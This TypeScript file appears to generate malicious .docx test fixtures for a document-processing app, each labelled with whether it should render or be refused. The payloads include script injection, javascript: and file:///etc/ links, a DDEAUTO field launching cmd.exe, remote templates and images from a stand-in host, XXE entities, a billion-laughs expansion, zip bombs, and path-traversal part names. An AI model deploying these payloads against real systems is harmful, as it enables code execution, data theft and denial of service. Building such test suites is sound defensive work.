import type { MaliciousZipEntry } from '../../../apps/box/src/storage/archives/malicious-archives.ts';
import type { AdversarialFile, Payload } from './adversarial-files.ts';
import type { PackageRelation, PackageParts, UnnamedFile } from './office-package.ts';
import {
  HEAD,
  W,
  PIC,
  NAMES,
  attribute,
  escaped,
  relations,
  pack,
  numbered,
  external,
  ENTITY_EXPANSION,
  svg,
  html,
  OVERSIZED_WHITESPACE,
} from './office-package.ts';

const paragraph = (inner: string): string => `<w:p>${inner}</w:p>`;
const run = (text: string, look = ''): string =>
  `<w:r><w:rPr>${look}</w:rPr><w:t xml:space="preserve">${escaped(text)}</w:t></w:r>`;

/** A text document; `body` follows a paragraph with readable text. */
const wordDocument = (
  body: string,
  rels: readonly PackageRelation[] = [],
  parts: PackageParts = {},
  doctype = '',
  more?: readonly MaliciousZipEntry[],
) =>
  pack(
    'word/document.xml',
    {
      'word/document.xml': `${HEAD}${doctype}<w:document xmlns:w="${W}" ${NAMES}><w:body>${paragraph(run('Readable words'))}${body}</w:body></w:document>`,
      'word/_rels/document.xml.rels': relations(rels),
      ...parts,
    },
    more,
  );

const picture = (attributes: string): string =>
  paragraph(
    `<w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><a:graphic><a:graphicData uri="${PIC}"><pic:pic><pic:blipFill><a:blip ${attributes}/></pic:blipFill><pic:spPr><a:xfrm><a:ext cx="900000" cy="900000"/></a:xfrm></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`,
  );

const field = (code: string): string =>
  paragraph(
    `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">${escaped(code)}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run('field result')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
  );

export const adversarialDocuments = (poison: Payload): readonly AdversarialFile[] => {
  const { js, far } = poison;
  const markup = `<img src=x onerror=${js}><script>${js}</script>`;
  const shows = { words: 'Readable words' };
  const style = `red;background:url(${far}/style)`;
  const files: readonly UnnamedFile[] = [
    {
      what: 'html as an alternative chunk',
      bytes: wordDocument('<w:altChunk r:id="r1"/>', [['r1', 'aFChunk', 'afchunk.html']], {
        'word/afchunk.html': html(poison),
      }),
      shows,
    },
    {
      what: 'links that are scripts',
      bytes: wordDocument(
        ['javascript:', 'JaVaScRiPt:', ' java\tscript:', 'data:text/html,<script>', 'vbscript:', 'file:///etc/']
          .map((_, at) => paragraph(`<w:hyperlink r:id="h${at}">${run(`link ${at}`)}</w:hyperlink>`))
          .join(''),
        ['javascript:', 'JaVaScRiPt:', ' java\tscript:', 'data:text/html,<script>', 'vbscript:', 'file:///etc/'].map(
          (scheme, at): PackageRelation => [`h${at}`, 'hyperlink', `${scheme}${js}`, true],
        ),
      ),
      shows,
    },
    {
      what: 'a picture of another server',
      bytes: wordDocument(picture('r:link="p1" r:embed="p1"'), [['p1', 'image', `${far}/pixel.png`, true]]),
      shows,
    },
    {
      what: 'a template of another server',
      bytes: wordDocument('', [['s1', 'settings', 'settings.xml']], {
        'word/settings.xml': `${HEAD}<w:settings xmlns:w="${W}" ${NAMES}><w:attachedTemplate r:id="t1"/></w:settings>`,
        'word/_rels/settings.xml.rels': relations([['t1', 'attachedTemplate', `${far}/evil.dotm`, true]]),
      }),
      shows,
    },
    {
      what: 'fields that start programs and fetch pictures',
      bytes: wordDocument(
        `${field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')}${field(`INCLUDEPICTURE "${far}/field.png" \\d`)}${field(`HYPERLINK "javascript:${js}"`)}${paragraph(`<w:fldSimple w:instr="DDE cmd calc">${run('simple')}</w:fldSimple>`)}`,
      ),
      shows,
    },
    {
      what: 'entities that read files and addresses',
      bytes: wordDocument(paragraph('<w:r><w:t>&file;&net;</w:t></w:r>'), [], {}, external(far)),
      shows: 'either',
    },
    {
      what: 'a billion laughs',
      bytes: wordDocument(paragraph('<w:r><w:t>&j;</w:t></w:r>'), [], {}, ENTITY_EXPANSION),
      shows: 'either',
    },
    {
      what: 'a text of 80 MB in 80 kB',
      bytes: wordDocument(OVERSIZED_WHITESPACE.toString('latin1')),
      shows: 'refusal',
    },
    {
      what: 'a part of 80 MB that says it has ten bytes',
      bytes: wordDocument('', [], {}, '', [{ name: 'word/a.xml', content: OVERSIZED_WHITESPACE, claimedSize: 10 }]),
      shows: 'refusal',
    },
    {
      what: 'sixty thousand parts',
      bytes: wordDocument(
        '',
        [],
        {},
        '',
        Array.from({ length: 60_000 }, (_, at) => ({ name: `word/p${at}`, store: true })),
      ),
      shows: 'refusal',
    },
    {
      what: 'tables in tables, five thousand deep',
      bytes: wordDocument(`${'<w:tbl><w:tr><w:tc>'.repeat(5000)}<w:p/>${'</w:tc></w:tr></w:tbl>'.repeat(5000)}`),
      shows: 'either',
    },
    {
      what: 'macros and a custom ribbon that runs them',
      bytes: wordDocument('', [['v1', 'vbaProject', 'vbaProject.bin']], {
        'word/vbaProject.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        'customUI/customUI.xml': `<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="AutoOpen"/>`,
      }),
      shows,
    },
    {
      what: 'a drawing with a script as a picture',
      bytes: wordDocument(picture('r:embed="p1"'), [['p1', 'image', 'media/i.svg']], {
        'word/media/i.svg': svg(poison),
      }),
      shows,
    },
    {
      what: 'styles in colours, fonts and borders',
      bytes: wordDocument(
        `<w:p><w:pPr><w:shd w:fill="${style}" w:color="${style}"/><w:pBdr><w:top w:val="single" w:color="${style}"/></w:pBdr></w:pPr>${run(
          'styled',
          `<w:color w:val="${style}"/><w:rFonts w:ascii="x;}@import '${far}/css';*{background:url(${far}/all)}" w:hAnsi="x"/><w:highlight w:val="${style}"/>`,
        )}</w:p>`,
        [['y1', 'styles', 'styles.xml']],
        {
          'word/styles.xml': `${HEAD}<w:styles xmlns:w="${W}"><w:style w:type="paragraph" w:styleId="x{}*{background:url(${far}/id)}" w:default="1"><w:name w:val="&lt;/style&gt;${attribute(markup)}"/><w:rPr><w:color w:val="${style}"/></w:rPr></w:style></w:styles>`,
        },
      ),
      shows,
    },
    {
      what: 'names that climb out and names of objects',
      bytes: wordDocument('', [], {
        '../../evil.xml': '<x/>',
        '__proto__/x.xml': '<x/>',
        '/etc/passwd': 'x',
        constructor: 'x',
      }),
      shows,
    },
    {
      what: 'markup in text, comments and footnotes',
      bytes: wordDocument(
        `${paragraph(run(markup))}${paragraph('<w:r><w:footnoteReference w:id="1"/></w:r><w:r><w:commentReference w:id="1"/></w:r>')}`,
        [
          ['c1', 'comments', 'comments.xml'],
          ['f1', 'footnotes', 'footnotes.xml'],
        ],
        {
          'word/comments.xml': `${HEAD}<w:comments xmlns:w="${W}"><w:comment w:id="1" w:author="${attribute(markup)}">${paragraph(run(markup))}</w:comment></w:comments>`,
          'word/footnotes.xml': `${HEAD}<w:footnotes xmlns:w="${W}"><w:footnote w:id="1">${paragraph(run(markup))}</w:footnote></w:footnotes>`,
        },
      ),
      shows,
    },
    {
      what: 'old drawings with addresses',
      bytes: wordDocument(
        paragraph(
          `<w:r><w:pict><v:shape id="s" href="javascript:${js}" style="width:9pt;height:9pt;background:url(${far}/vml)" onclick="${js}"><v:imagedata r:id="p1" src="${far}/vml.png" o:href="${far}/vml2.png"/><v:textbox><w:txbxContent>${paragraph(run('box'))}</w:txbxContent></v:textbox></v:shape></w:pict></w:r>`,
        ),
        [['p1', 'image', `${far}/vml3.png`, true]],
      ),
      shows,
    },
    { what: 'html in place of a document', bytes: html(poison), shows: 'refusal' },
  ];
  return numbered('word', 'docx', files);
};
